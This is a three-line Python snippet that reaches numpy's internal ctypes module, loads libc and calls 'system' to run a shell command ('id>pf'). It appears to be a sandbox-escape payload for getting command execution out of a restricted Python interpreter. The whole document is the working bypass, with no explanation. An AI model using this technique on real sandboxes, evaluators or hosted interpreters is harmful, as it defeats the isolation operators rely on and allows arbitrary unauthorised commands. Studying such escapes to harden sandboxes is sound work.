import numpy as np
type(np.zeros(1).ctypes._ctypes.CDLL)
np.zeros(1).ctypes._ctypes.CDLL(None).system(b"id>pf")
